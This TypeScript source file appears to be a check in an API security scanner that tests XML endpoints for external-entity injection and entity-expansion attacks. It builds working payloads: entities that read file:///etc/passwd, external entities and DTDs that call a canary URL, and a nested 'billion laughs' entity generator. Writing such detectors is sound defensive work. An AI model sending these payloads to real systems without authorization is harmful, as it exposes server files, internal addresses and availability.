import {
  bodyText,
  type Check,
  type Exchange,
  type Json,
  type Operation,
  type ProbeContext,
  type RequestSpec,
  encodeRequest,
} from '@assay/contract';
import { advice, isTurnedAway } from '../kit/answers/turned-away.ts';
import { applies, distinct, doesNotApply, judged, undecided } from '../kit/judgement.ts';
import { blowUpRounds, cannotBlowUp, isBlowUp, type TimedPair } from '../kit/payloads/blow-up.ts';
import { Planter } from '../kit/payloads/plant.ts';
import { countTexts, withDoctype, withText, xmlContentOf, xmlDocument } from '../kit/requests/xml-document.ts';
import { count, outcome, requestLine, saying, status } from '../kit/words.ts';

type Proof =
  /** The canary was asked for what the document's entity, or its document type, names. */
  | { readonly kind: 'called'; readonly token: string; readonly lines: readonly string[] }
  /** The answer holds /etc/passwd, which an entity named. */
  | { readonly kind: 'file' }
  /** A small document whose entities hold each other takes much longer than a plain one. */
  | { readonly kind: 'expansion'; readonly pairs: readonly TimedPair[] };

interface Suspect {
  readonly operation: string;
  readonly exchange: Exchange;
  readonly proof: Proof;
}

interface Evidence {
  readonly sent: number;
  /** The last answer when every one was turned away. */
  readonly turnedAway: Exchange | null;
  /** The last answer to an ordinary document when none was read by any operation; older recordings have none. */
  readonly refusal?: Exchange | null;
  readonly suspects: readonly Suspect[];
}

const mostTexts = 6;
const lateMs = 300;
/** Ten entities in each other hold 10^n times the text. The greatest is 30 MB. */
const levels = [4, 5, 6, 7] as const;
const patienceMs = 8_000;

/** A document cannot make its reader open files and addresses, or swell. */
export const check: Check<Evidence> = {
  id: 'security/xxe',
  claim: 'An XML document cannot make the backend open files or addresses, or swell',
  skill: 'apis',
  severity: 'critical',
  names: { cwe: 'CWE-611', owasp: 'API8:2023' },
  needs: [],
  instance: 'own',
  applies: (contract) =>
    contract.operations.some((operation) => xmlContentOf(operation) !== null)
      ? applies
      : doesNotApply('no operation takes XML'),
  probe: async (context) => {
    const suspects: Suspect[] = [];
    let sent = 0;
    let understood = 0;
    let turnedAway: Exchange | null = null;
    let read = 0;
    let refusal: Exchange | null = null;
    for (const operation of context.contract.operations) {
      if (xmlContentOf(operation) === null || (context.focus !== null && context.focus !== operation.id)) continue;
      const planter = new Planter(context);
      const send: Send = async (change) => {
        const spec = await request(context, planter, operation, change);
        if (spec === null || context.signal.aborted) return null;
        const exchange = await context.backend.send(spec, { timeoutMs: patienceMs, signal: context.signal });
        sent += 1;
        if (isTurnedAway(exchange)) turnedAway = exchange;
        else understood += 1;
        if (isRead(exchange)) read += 1;
        else if (change === plain) refusal = exchange;
        return exchange;
      };
      suspects.push(...(await addresses(context, operation, send)), ...(await files(operation, send)));
      const swollen = await expansion(context, operation, send);
      if (swollen !== null) suspects.push(swollen);
    }
    return { sent, turnedAway: understood === 0 ? turnedAway : null, refusal: read === 0 ? refusal : null, suspects };
  },
  judge: ({ sent, turnedAway, refusal = null, suspects }) => {
    const proven = suspects.filter(holds);
    if (sent === 0) return undecided('no document could be made');
    if (proven.length === 0 && turnedAway !== null) return undecided(`${outcome(turnedAway)}${advice(turnedAway)}`);
    if (proven.length === 0 && refusal !== null)
      return undecided(`not even an ordinary document was read: ${outcome(refusal)}${saying(refusal)}`);
    return judged(
      distinct(
        proven.map(({ operation, exchange, proof }) => ({
          key: `${operation} ${proof.kind}`,
          title: `${requestLine(exchange)} ${titles[proof.kind]}`,
          detail: `${details[proof.kind]} Whoever may send a document may then read files of the backend, ask addresses that only it can reach, or stop it.`,
          fix: 'Turn document types off in the parser, or else external entities and external DTDs, and leave the limits on expansion as they are: in Java disallow-doctype-decl, in Python defusedxml, in PHP no LIBXML_NOENT, LIBXML_DTDLOAD or LIBXML_PARSEHUGE, in Node a parser that knows no DTD.',
          operation,
          names: proof.kind === 'expansion' ? { cwe: 'CWE-776', owasp: 'API4:2023' } : {},
          evidence: [
            { kind: 'exchange' as const, exchange },
            ...(proof.kind === 'called'
              ? [{ kind: 'value' as const, label: 'what reached the canary', actual: proof.lines }]
              : []),
            ...(proof.kind === 'expansion'
              ? [
                  {
                    kind: 'value' as const,
                    label: 'milliseconds: swelling, plain',
                    actual: proof.pairs as unknown as Json,
                  },
                ]
              : []),
          ],
        })),
      ),
      `${count(sent, 'document')} with entities sent; none was followed`,
    );
  },
};

const titles = {
  called: 'opens the addresses that a document names',
  file: 'opens the files that a document names, and shows them',
  expansion: 'takes far longer for a small document whose entities hold each other',
} as const satisfies Record<Proof['kind'], string>;

const details = {
  called:
    'The document type named an address on the backend’s own loopback, which nothing else names, and it was asked for.',
  file: 'An entity of the document named /etc/passwd, and the answer holds that file.',
  expansion:
    'A document of a few hundred bytes, whose entities each hold ten of the one before, took at least a second and twenty times as long as a plain one, each time it was tried.',
} as const satisfies Record<Proof['kind'], string>;

const plain = (document: string): string => document;

/** Whether a document was read: what was refused for what it says, or is there already, was. */
function isRead(exchange: Exchange): boolean {
  const code = status(exchange) ?? 0;
  return (code >= 200 && code < 400) || code === 409 || code === 422;
}

type Send = (change: (document: string) => string) => Promise<Exchange | null>;

async function request(
  context: ProbeContext,
  planter: Planter,
  operation: Operation,
  change: (document: string) => string,
): Promise<RequestSpec | null> {
  const content = xmlContentOf(operation);
  if (content === null) return null;
  if (operation.soap !== null) {
    const ordinary = await planter.ordinary(operation);
    const envelope = ordinary === null ? null : encodeRequest(operation, ordinary);
    return typeof envelope?.body === 'string' ? { ...envelope, body: change(envelope.body) } : null;
  }
  // What it takes, as if it took it in JSON; or else no body, and the contract's own example.
  const inJson = {
    ...operation,
    requestBody: { required: true, content: [{ ...content, mediaType: 'application/json' }] },
  };
  const ordinary = (await planter.ordinary(inJson)) ?? (await planter.ordinary({ ...operation, requestBody: null }));
  if (ordinary === null) return null;
  const { body, ...bare } = ordinary;
  const document = xmlDocument(context.contract, content, body?.value as Json | undefined);
  if (document === null) return null;
  const spec = encodeRequest({ ...operation, requestBody: null }, bare);
  const headers = [...(spec.headers ?? []), ['content-type', content.mediaType] as const];
  return { ...spec, headers, body: change(document) };
}

/** An entity in the text, and an external document type. */
async function addresses(context: ProbeContext, operation: Operation, send: Send): Promise<readonly Suspect[]> {
  const canary = await context.backend.canary();
  const found: Suspect[] = [];
  const asked: { readonly token: string; readonly exchange: Exchange }[] = [];
  const ways: readonly ((document: string, url: string) => string)[] = [
    (document, url) => withDoctype(withText(document, 'all', '&assay;'), `<!ENTITY assay SYSTEM "${url}">`),
    (document, url) => withDoctype(document, `<!ENTITY % assay SYSTEM "${url}"> %assay;`),
    (document, url) => withDoctype(document, '', url),
  ];
  for (const way of ways) {
    const token = context.random.unique('xml');
    const exchange = await send((document) => way(document, canary.url(token)));
    if (exchange !== null) asked.push({ token, exchange });
  }
  const last = asked.at(-1);
  if (last !== undefined) await canary.waitFor(last.token, lateMs, context.signal);
  for (const { token, exchange } of asked) {
    const lines = canary.hits().flatMap(({ line }) => (line.includes(token) ? [line] : []));
    if (lines.length > 0)
      found.push({ operation: operation.id, exchange, proof: { kind: 'called', token, lines: lines.slice(0, 3) } });
  }
  return found.slice(0, 1);
}

async function files(operation: Operation, send: Send): Promise<readonly Suspect[]> {
  let length = 1;
  for (let index = 0; index < Math.min(length, mostTexts); index += 1) {
    const exchange = await send((document) => {
      length = countTexts(document);
      return withDoctype(withText(document, index, '&assay;'), '<!ENTITY assay SYSTEM "file:///etc/passwd">');
    });
    const suspect = exchange === null ? null : { operation: operation.id, exchange, proof: { kind: 'file' as const } };
    if (suspect !== null && holds(suspect)) return [suspect];
  }
  return [];
}

async function expansion(context: ProbeContext, operation: Operation, send: Send): Promise<Suspect | null> {
  for (const level of levels) {
    const pairs: TimedPair[] = [];
    let last: Exchange | null = null;
    for (let round = 0; round < blowUpRounds && !context.signal.aborted; round += 1) {
      const control = await send(plain);
      const swelling = await send((document) => withDoctype(withText(document, 0, `&e${level};`), entities(level)));
      if (control?.response === undefined || swelling === null) return null;
      last = swelling;
      pairs.push({ attackMs: swelling.durationMs, controlMs: control.durationMs });
      if (cannotBlowUp(pairs)) break;
    }
    const suspect =
      last === null ? null : { operation: operation.id, exchange: last, proof: { kind: 'expansion' as const, pairs } };
    if (suspect !== null && holds(suspect)) return suspect;
  }
  return null;
}

function entities(level: number): string {
  const one = (index: number): string => `<!ENTITY e${index} "${index === 0 ? 'lol' : `&e${index - 1};`.repeat(10)}">`;
  return Array.from({ length: level + 1 }, (_, index) => one(index)).join('');
}

function holds({ exchange, proof }: Suspect): boolean {
  switch (proof.kind) {
    case 'called':
      return proof.lines.some((line) => line.includes(proof.token));
    case 'file':
      return /\broot:[^:\s]{0,120}:0:0:/.test(bodyText(exchange.response?.body));
    case 'expansion':
      return isBlowUp(proof.pairs, 3);
    default:
      return proof satisfies never;
  }
}
